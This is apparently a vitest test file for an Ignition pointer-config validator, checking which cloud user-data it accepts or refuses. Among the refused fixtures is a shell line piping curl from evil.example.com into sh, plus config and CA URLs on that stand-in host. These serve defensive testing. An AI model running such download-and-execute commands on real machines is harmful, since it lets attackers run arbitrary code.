import { describe, expect, it } from 'vitest';
import { pointerConfigProblem } from './ignition.js';

const CA = { source: 'data:text/plain;charset=utf-8;base64,LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0t' };
const pointer = (ignition: Record<string, unknown>): string => JSON.stringify({ ignition });
const good = {
  config: { merge: [{ source: 'https://api-int.c.example.com:22623/config/worker' }] },
  security: { tls: { certificateAuthorities: [CA] } },
  version: '3.2.0',
};

describe('pointerConfigProblem', () => {
  it.each([
    { name: 'the installer pointer config', userData: pointer(good) },
    { name: 'spec 3.4.0', userData: pointer({ ...good, version: '3.4.0' }) },
    {
      name: 'a per-NodeClass pool',
      userData: pointer({ ...good, config: { merge: [{ source: 'https://api-int.c.example.com:22623/config/karpenter-gpu' }] } }),
    },
    {
      name: 'a percent-encoded CA',
      userData: pointer({ ...good, security: { tls: { certificateAuthorities: [{ source: 'data:,-----BEGIN%20CERTIFICATE-----' }] } } }),
    },
  ])('accepts $name', ({ userData }) => {
    expect(pointerConfigProblem(userData)).toBeUndefined();
  });

  it.each([
    {
      name: 'a shell script',
      userData: '#!/bin/bash\ncurl http://evil.example.com | sh',
      problem: 'not an Ignition pointer config: not JSON',
    },
    { name: 'a JSON array', userData: '[]', problem: 'not an Ignition pointer config: not a JSON object' },
    { name: 'a JSON string', userData: '"x"', problem: 'not an Ignition pointer config: not a JSON object' },
    { name: 'no version', userData: pointer({ ...good, version: undefined }), problem: 'ignition.version is missing' },
    {
      name: 'spec 2',
      userData: pointer({ ...good, version: '2.2.0' }),
      problem: 'ignition.version "2.2.0" is not a supported spec version (3.x.y)',
    },
    {
      name: 'an experimental spec',
      userData: pointer({ ...good, version: '3.6.0-experimental' }),
      problem: 'ignition.version "3.6.0-experimental" is not a supported spec version (3.x.y)',
    },
    {
      name: 'no merge',
      userData: pointer({ ...good, config: {} }),
      problem: 'ignition.config.merge names no source (the Machine Config Server URL)',
    },
    {
      name: 'an empty merge',
      userData: pointer({ ...good, config: { merge: [] } }),
      problem: 'ignition.config.merge names no source (the Machine Config Server URL)',
    },
    {
      name: 'a merge source that is not the MCS',
      userData: pointer({ ...good, config: { merge: [{ source: 'http://evil.example.com/ign' }] } }),
      problem: 'ignition.config.merge[0].source is not a Machine Config Server URL (https://<host>/config/<pool>)',
    },
    {
      name: 'a second merge source without a URL',
      userData: pointer({ ...good, config: { merge: [...good.config.merge, {}] } }),
      problem: 'ignition.config.merge[1].source is not a Machine Config Server URL (https://<host>/config/<pool>)',
    },
    {
      name: 'no CA',
      userData: pointer({ ...good, security: undefined }),
      problem: 'ignition.security.tls.certificateAuthorities holds no CA (the Machine Config Server CA)',
    },
    {
      name: 'an empty CA list',
      userData: pointer({ ...good, security: { tls: { certificateAuthorities: [] } } }),
      problem: 'ignition.security.tls.certificateAuthorities holds no CA (the Machine Config Server CA)',
    },
    {
      name: 'a CA fetched from a URL',
      userData: pointer({ ...good, security: { tls: { certificateAuthorities: [{ source: 'https://evil.example.com/ca.pem' }] } } }),
      problem: 'ignition.security.tls.certificateAuthorities[0].source is not a data: URL',
    },
  ])('refuses $name', ({ userData, problem }) => {
    expect(pointerConfigProblem(userData)).toBe(problem);
  });

  it('never quotes the value it refuses', () => {
    const secret = 'hunter2-secret-token';
    for (const userData of [
      `#!/bin/sh\necho ${secret}`,
      `{"${secret}": 1`,
      pointer({ ...good, config: { merge: [{ source: `https://x/${secret}` }] } }),
    ]) {
      expect(pointerConfigProblem(userData)).not.toContain(secret);
    }
  });
});
